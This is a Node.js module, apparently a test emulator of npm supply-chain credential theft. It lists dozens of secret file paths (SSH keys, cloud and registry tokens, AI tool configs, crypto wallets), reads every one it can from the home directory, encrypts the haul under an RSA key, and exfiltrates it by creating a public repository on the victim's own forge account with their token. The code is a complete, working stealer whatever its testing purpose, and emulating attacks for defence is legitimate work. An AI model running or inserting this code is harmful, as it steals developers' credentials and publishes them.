// What the thefts by node share: a sweep of files, packing under the test's RSA key, and a request.
const crypto = require("crypto");
const fs = require("fs");
const http = require("http");
const os = require("os");
const path = require("path");

// Most of these are absent, as on a hosted runner.
exports.PATHS = `
.npmrc .yarnrc .yarnrc.yml .pypirc .config/pip/pip.conf .netrc .gitconfig .git-credentials .config/gh/hosts.yml
.ssh/id_rsa .ssh/id_ed25519 .ssh/id_ecdsa .ssh/config .aws/credentials .aws/config .azure/accessTokens.json
.azure/msal_token_cache.json .config/gcloud/application_default_credentials.json .config/gcloud/credentials.db
.docker/config.json .kube/config .vault-token .cargo/credentials.toml .gem/credentials .bash_history .zsh_history
.claude.json .claude/settings.json .gemini/settings.json .cursor/mcp.json .config/solana/id.json .env
work/project/.env work/project/.npmrc work/project/.git/config`.trim().split(/\s+/);

// The files below the home that can be read, with their names.
exports.sweep = (paths) => {
  const read = (name) => {
    const file = path.resolve(os.homedir(), name);
    try {
      return `=== ${file}\n${fs.readFileSync(file, "utf8")}\n`;
    } catch {
      return "";
    }
  };
  return paths.map(read).join("");
};

// The loot under a session key, and that under the RSA key; in the form that `openssl enc` reads.
exports.pack = (loot) => {
  const [session, salt] = [crypto.randomBytes(32).toString("hex"), crypto.randomBytes(8)];
  const derived = crypto.pbkdf2Sync(session, salt, 10000, 48, "sha256");
  const cipher = crypto.createCipheriv("aes-256-cbc", derived.subarray(0, 32), derived.subarray(32));
  const payload = Buffer.concat([Buffer.from("Salted__"), salt, cipher.update(loot), cipher.final()]);
  const key = crypto.publicEncrypt(fs.readFileSync(process.env.PUBKEY), Buffer.from(session));
  return JSON.stringify({ payload: payload.toString("base64"), key: key.toString("base64") });
};

exports.encode = (text, rounds) => (rounds === 0 ? text : exports.encode(Buffer.from(text).toString("base64"), rounds - 1));

// What was answered; nothing where it failed, which a thief does not mind.
exports.send = (method, url, body = "", headers = {}) =>
  new Promise((resolve) => {
    const options = { method, timeout: 10000, agent: false, headers: { ...headers, "Content-Length": Buffer.byteLength(body) } };
    const request = http.request(url, options, (response) => {
      const chunks = [];
      response.on("data", (chunk) => chunks.push(chunk));
      response.on("end", () => resolve(Buffer.concat(chunks).toString()));
      response.on("error", () => resolve(""));
    });
    request.on("timeout", () => request.destroy());
    request.on("error", () => resolve(""));
    request.end(body);
  });

// A file in a new public repository of the victim's own account on the forge.
exports.drop = async (token, name, text) => {
  const [forge, headers] = [`http://${process.env.FORGE}`, { Authorization: `token ${token.trim()}`, "User-Agent": "node" }];
  await exports.send("POST", `${forge}/user/repos`, '{"name": "emulated", "private": false}', headers);
  const body = JSON.stringify({ message: "add file", content: text });
  await exports.send("PUT", `${forge}/repos/o/emulated/contents/${name}`, body, headers);
};
